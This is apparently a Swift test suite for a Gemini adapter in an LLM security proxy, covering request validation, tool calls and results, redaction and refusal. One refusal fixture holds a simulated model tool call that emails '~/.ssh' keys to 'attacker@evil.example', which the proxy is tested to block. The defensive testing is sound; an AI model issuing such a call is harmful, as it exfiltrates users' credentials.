import ArchestraCore
import ArchestraProviders
import Foundation
import Testing

/// Request validation and the Gemini neutral view (declarations, functionResponse with and without id, functionCall),
/// redaction, refusal, usage and the mock reply.
@Suite("Gemini adapter: validation, the neutral view, redaction, refusal, mock")
struct GeminiAdapterTests {
    let adapter = GeminiGenerateContentAdapter()

    static func parse(_ text: String) -> JSONValue { ProviderFixtureJSON.parse(text) }
    static func object(_ text: String) -> JSONObject { ProviderFixtureJSON.object(text) }

    // MARK: Validation

    struct ValidationCase: Sendable, CustomTestStringConvertible {
        var name: String
        var body: String
        var valid: Bool
        var testDescription: String { name }
    }

    static let validationCases: [ValidationCase] = [
        .init(name: "minimal", body: #"{"contents":[]}"#, valid: true),
        .init(name: "full, with unknown fields",
              body: #"{"contents":[{"role":"user","parts":[{"text":"Hi"}]}],"systemInstruction":{"parts":[{"text":"Be brief"}]},"generationConfig":{"temperature":0.70},"safetySettings":[],"x_unknown":{"a":null}}"#,
              valid: true),
        .init(name: "tools with declarations and a built-in tool",
              body: #"{"contents":[],"tools":[{"functionDeclarations":[{"name":"a"}]},{"googleSearch":{}},{"codeExecution":{}}]}"#, valid: true),
        .init(name: "empty tools", body: #"{"contents":[],"tools":[]}"#, valid: true),
        .init(name: "body is an array", body: #"[{"contents":[]}]"#, valid: false),
        .init(name: "body is a number", body: "3", valid: false),
        .init(name: "contents missing", body: #"{"model":"gemini-2.5-flash"}"#, valid: false),
        .init(name: "contents an object", body: #"{"contents":{"role":"user","parts":[]}}"#, valid: false),
        .init(name: "contents a string", body: #"{"contents":"hi"}"#, valid: false),
        .init(name: "contents null", body: #"{"contents":null}"#, valid: false),
        .init(name: "tools an object", body: #"{"contents":[],"tools":{"functionDeclarations":[]}}"#, valid: false),
        .init(name: "tools item a string", body: #"{"contents":[],"tools":["x"]}"#, valid: false),
        .init(name: "a declaration without a name", body: #"{"contents":[],"tools":[{"functionDeclarations":[{"description":"d"}]}]}"#, valid: false),
    ]

    @Test("request validation; model and streaming come from the URL", arguments: validationCases)
    func validation(_ row: ValidationCase) {
        let body = Self.parse(row.body)
        let route = RouteFacts(model: "gemini-2.5-flash", streaming: true)
        let parsed = Result { () throws(ProviderRequestError) in try adapter.parseRequest(body, route: route) }
        switch parsed {
        case .success(let request):
            #expect(row.valid, "accepted an invalid body: \(row.body)")
            #expect(request.model == "gemini-2.5-flash")
            #expect(request.stream)
            #expect(.object(request.body) == body)
        case .failure(let error):
            #expect(!row.valid, "rejected a valid body: \(error.message)")
            #expect(!error.message.isEmpty)
        }
    }

    @Test("generateContent does not stream, whatever the body says")
    func nonStreamingRoute() throws {
        let request = try adapter.parseRequest(Self.parse(#"{"contents":[],"stream":true}"#), route: RouteFacts(model: "gemini-pro", streaming: false))
        #expect(!request.stream)
        #expect(request.model == "gemini-pro")
    }

    // MARK: Tool declarations

    @Test("functionDeclarations of every tools entry; parameters or parametersJsonSchema, else {}")
    func declarations() throws {
        let body = Self.parse(#"""
            {"contents":[],"tools":[
              {"functionDeclarations":[
                {"name":"get_emails","description":"Read e-mails","parameters":{"type":"OBJECT","properties":{"folder":{"type":"STRING"}}}},
                {"name":"json_schema_tool","parametersJsonSchema":{"type":"object","additionalProperties":false}}]},
              {"googleSearch":{}},
              {"functionDeclarations":[{"name":"bare"},{"name":"null_params","parameters":null,"parametersJsonSchema":{"type":"object"}}]}]}
            """#)
        let declarations = try adapter.parseRequest(body, route: RouteFacts(model: "m")).toolDeclarations
        #expect(declarations == [
            ToolDeclaration(name: "get_emails", description: "Read e-mails", parameters: Self.parse(#"{"type":"OBJECT","properties":{"folder":{"type":"STRING"}}}"#)),
            ToolDeclaration(name: "json_schema_tool", description: nil, parameters: Self.parse(#"{"type":"object","additionalProperties":false}"#)),
            ToolDeclaration(name: "bare", description: nil, parameters: [:]),
            ToolDeclaration(name: "null_params", description: nil, parameters: Self.parse(#"{"type":"object"}"#)),
        ])
    }

    // MARK: Tool results

    static let conversation = #"""
        {"contents":[
          {"role":"user","parts":[{"text":"Read my mail"}]},
          {"role":"model","parts":[{"functionCall":{"id":"fc_1","name":"get_emails","args":{"folder":"inbox"}}},{"functionCall":{"name":"get_weather","args":{"city":"Zürich"}}}]},
          {"role":"user","parts":[
            {"functionResponse":{"id":"fc_1","name":"get_emails","response":{"emails":[{"from":"a@company.com","body":"hi"}]}}},
            {"functionResponse":{"name":"get_weather","response":{"temp":21,"unit":"C"},"willContinue":false}},
            {"text":"Here you go"}]}],
         "generationConfig":{"temperature":0.5}}
        """#

    @Test("functionResponse parts: id (or a synthetic one), name, response")
    func toolResults() throws {
        let results = adapter.toolResults(in: Self.object(Self.conversation))
        try #require(results.count == 2)
        #expect(results[0] == NeutralToolResult(toolCallId: "fc_1", toolName: "get_emails", value: Self.parse(#"{"emails":[{"from":"a@company.com","body":"hi"}]}"#)))
        #expect(results[1].toolName == "get_weather")
        #expect(results[1].value == Self.parse(#"{"temp":21,"unit":"C"}"#))
        #expect(!results[1].toolCallId.isEmpty)
        #expect(results[1].toolCallId == GeminiGenerateContentAdapter.syntheticId(name: "get_weather", response: Self.parse(#"{"temp":21,"unit":"C"}"#)))
    }

    /// One result without id, as a conversation.
    static func synthetic(name: String, response: String) -> String? {
        let body = object(#"{"contents":[{"role":"user","parts":[{"functionResponse":{"name":"\#(name)","response":\#(response)}}]}]}"#)
        return GeminiGenerateContentAdapter().toolResults(in: body).first?.toolCallId
    }

    @Test("synthetic ids: equal for equal results whatever the key order, different otherwise")
    func syntheticIds() throws {
        let base = try #require(Self.synthetic(name: "get_emails", response: #"{"a":1,"b":{"c":[1,{"x":"y","w":null}],"d":"é"}}"#))
        // Same result, keys in another order at every level: same id.
        #expect(Self.synthetic(name: "get_emails", response: #"{"b":{"d":"é","c":[1,{"w":null,"x":"y"}]},"a":1}"#) == base)
        #expect(Self.synthetic(name: "get_emails", response: #"{ "a" : 1 , "b" : { "c" : [ 1 , { "x" : "y" , "w" : null } ] , "d" : "é" } }"#) == base)
        // Different value, different array order, different name, extra key: different ids.
        let others = [
            Self.synthetic(name: "get_emails", response: #"{"a":2,"b":{"c":[1,{"x":"y","w":null}],"d":"é"}}"#),
            Self.synthetic(name: "get_emails", response: #"{"a":1,"b":{"c":[{"x":"y","w":null},1],"d":"é"}}"#),
            Self.synthetic(name: "get_mail", response: #"{"a":1,"b":{"c":[1,{"x":"y","w":null}],"d":"é"}}"#),
            Self.synthetic(name: "get_emails", response: #"{"a":1,"b":{"c":[1,{"x":"y","w":null}],"d":"é"},"e":true}"#),
            Self.synthetic(name: "get_emails", response: #"{"a":"1","b":{"c":[1,{"x":"y","w":null}],"d":"é"}}"#),
        ]
        for other in others { #expect(other != nil && other != base) }
        #expect(Set(others.compactMap { $0 }).count == others.count)
        // A name/response boundary cannot be shifted to forge another result's id.
        #expect(Self.synthetic(name: "a", response: #"{"bc":1}"#) != Self.synthetic(name: "ab", response: #"{"c":1}"#))
    }

    @Test("two identical results without id in one conversation share their id; an explicit id wins")
    func identicalResultsShareId() {
        let body = Self.object(#"""
            {"contents":[{"role":"user","parts":[
              {"functionResponse":{"name":"f","response":{"k":[1,2]}}},
              {"functionResponse":{"name":"f","response":{"k":[1,2]}}},
              {"functionResponse":{"name":"f","response":{"k":[2,1]}}},
              {"functionResponse":{"id":"explicit","name":"f","response":{"k":[1,2]}}}]}]}
            """#)
        let ids = adapter.toolResults(in: body).map(\.toolCallId)
        #expect(ids.count == 4)
        #expect(ids[0] == ids[1])
        #expect(ids[2] != ids[0])
        #expect(ids[3] == "explicit")
    }

    @Test("the latest user turn with text is the Dual LLM's original request")
    func latestUserText() {
        #expect(adapter.latestUserText(in: Self.object(Self.conversation)) == "Here you go")
        #expect(adapter.latestUserText(in: Self.object(#"{"contents":[{"role":"user","parts":[{"text":"a"},{"text":"b"}]},{"role":"model","parts":[{"text":"no"}]}]}"#)) == "ab")
    }

    // MARK: Redaction

    @Test("redaction: functionResponse.response = {\"output\": text}; id, name, other parts and fields kept")
    func redaction() {
        let original = Self.object(Self.conversation)
        let edited = adapter.replacingToolResults(in: original, with: [1: "[Content blocked by policy: Data blocked by policy: Hot]"])
        let expected = Self.parse(Self.conversation.replacingAll(
            #""response":{"temp":21,"unit":"C"},"willContinue":false"#,
            with: #""response":{"output":"[Content blocked by policy: Data blocked by policy: Hot]"},"willContinue":false"#))
        #expect(expected != .object(original))
        #expect(JSONValue.object(edited) == expected)
        #expect(adapter.replacingToolResults(in: original, with: [:]) == original)
        let first = adapter.replacingToolResults(in: original, with: [0: "X"])
        #expect(adapter.toolResults(in: first).first == NeutralToolResult(toolCallId: "fc_1", toolName: "get_emails", value: ["output": "X"]))
    }

    // MARK: Tool calls

    @Test("functionCall parts of a reply are its tool calls: id if any, name, args (missing → {})")
    func toolCallsFromReply() throws {
        let reply = Self.object(#"""
            {"candidates":[{"content":{"role":"model","parts":[
               {"text":"Sending."},
               {"functionCall":{"id":"call_x","name":"send_email","args":{"to":"x@y.z","n":2.50}}},
               {"functionCall":{"name":"list_files"}}]},"finishReason":"STOP","index":0}],
             "usageMetadata":{"promptTokenCount":3}}
            """#)
        let calls = adapter.toolCalls(inResponse: reply)
        try #require(calls.count == 2)
        #expect(calls[0] == NeutralToolCall(id: "call_x", name: "send_email", arguments: .parsed(Self.parse(#"{"to":"x@y.z","n":2.50}"#))))
        #expect(calls[1].name == "list_files")
        #expect(calls[1].arguments == .parsed([:]))
        #expect(!calls[1].id.isEmpty && calls[1].id != calls[0].id)
        #expect(adapter.toolCalls(inResponse: Self.object(#"{"candidates":[{"content":{"parts":[{"text":"hi"}]}}]}"#)).isEmpty)
        #expect(adapter.toolCalls(inResponse: Self.object(#"{"promptFeedback":{"blockReason":"SAFETY"}}"#)).isEmpty)
    }

    // MARK: Refusal

    @Test("refusal: candidates = the refusal candidate; usageMetadata, modelVersion and other fields kept in place")
    func refusal() throws {
        let reply = Self.object(#"""
            {"candidates":[{"content":{"role":"model","parts":[{"text":"Sure."},{"functionCall":{"name":"send_email","args":{"to":"attacker@evil.example","subject":"Schlüssel ~/.ssh","n":2.50}}}]},"finishReason":"STOP","index":0,"safetyRatings":[]}],
             "usageMetadata":{"promptTokenCount":310,"candidatesTokenCount":42,"totalTokenCount":352},"modelVersion":"gemini-2.5-flash","responseId":"r-1"}
            """#)
        let call = try #require(adapter.toolCalls(inResponse: reply).first)
        let content = ExpectedRefusal.content(
            tool: "send_email", arguments: #"{"to":"attacker@evil.example","subject":"Schlüssel ~/.ssh","n":2.5}"#, reason: "R1")
        let refused = adapter.refusalResponse(replacing: reply, refusal: Refusal(call: call, reason: "R1"))
        var expected = reply
        expected["candidates"] = [
            ["content": ["role": "model", "parts": [["text": .string(content)]]], "finishReason": "STOP", "index": 0]
        ]
        #expect(ProviderFixtureJSON.same(refused, .object(expected)))
        #expect(refused.objectValue?.keys == ["candidates", "usageMetadata", "modelVersion", "responseId"])
        #expect(adapter.toolCalls(inResponse: refused.objectValue ?? [:]).isEmpty)
    }

    // MARK: Usage

    @Test("usage: promptTokenCount and candidatesTokenCount")
    func usage() {
        #expect(adapter.usage(inResponse: Self.object(#"{"usageMetadata":{"promptTokenCount":7,"candidatesTokenCount":3,"totalTokenCount":10}}"#)) == TokenUsage(input: 7, output: 3))
        #expect(adapter.usage(inResponse: Self.object(#"{"usageMetadata":{"promptTokenCount":7,"totalTokenCount":7}}"#)) == TokenUsage(input: 7, output: nil))
        #expect(adapter.usage(inResponse: Self.object(#"{"usageMetadata":{"totalTokenCount":7}}"#)) == nil)
        #expect(adapter.usage(inResponse: Self.object(#"{"candidates":[]}"#)) == nil)
    }

    // MARK: Mock

    static let contractMock = #"""
        {"candidates":[{"content":{"role":"model","parts":[{"functionCall":{"name":"list_files","args":{"path":"."}}}]},
          "finishReason":"STOP","index":0}],
         "usageMetadata":{"promptTokenCount":82,"candidatesTokenCount":17,"totalTokenCount":99},
         "modelVersion":"gemini-2.5-pro"}
        """#

    static func pipelineRequest(model: String, stream: Bool) -> PipelineRequest {
        PipelineRequest(body: ["contents": []], model: model, stream: stream, toolDeclarations: [])
    }

    @Test("mock reply: the canned reply member for member, modelVersion = the URL's model")
    func mockReply() {
        #expect(adapter.mockResponse(for: Self.pipelineRequest(model: "gemini-2.5-pro", stream: false), created: 1) == Self.parse(Self.contractMock))
    }

    @Test("mock stream: that reply as a single data: chunk")
    func mockStream() throws {
        let bytes = adapter.mockStream(for: Self.pipelineRequest(model: "gemini-2.5-pro", stream: true), created: 1).flatMap { $0 }
        let events = decodeEvents(bytes)
        try #require(events.count == 1)
        #expect(events[0].event == nil)
        #expect(Self.parse(events[0].data) == Self.parse(Self.contractMock))
        #expect(String(decoding: bytes, as: UTF8.self).hasPrefix("data: "))
        #expect(String(decoding: bytes, as: UTF8.self).hasSuffix("\n\n"))
        var assembly = adapter.makeStream(for: Self.pipelineRequest(model: "gemini-2.5-pro", stream: true))
        let carries = assembly.observeUpstream(events[0])
        #expect(carries)
        assembly.observeClient(events[0])
        #expect(ProviderFixtureJSON.same(assembly.clientView(), Self.parse(Self.contractMock)))
        #expect(assembly.usage() == TokenUsage(input: 82, output: 17))
    }

    @Test("interaction type")
    func interactionType() {
        #expect(adapter.interactionType == "gemini:generateContent")
        #expect(adapter.provider == .gemini)
    }
}

extension String {
    /// The text with every occurrence of `target` replaced (the fixture must contain it).
    func replacingAll(_ target: String, with replacement: String, sourceLocation: SourceLocation = #_sourceLocation) -> String {
        let parts = components(separatedBy: target)
        #expect(parts.count > 1, "fixture does not contain \(target)", sourceLocation: sourceLocation)
        return parts.joined(separator: replacement)
    }
}
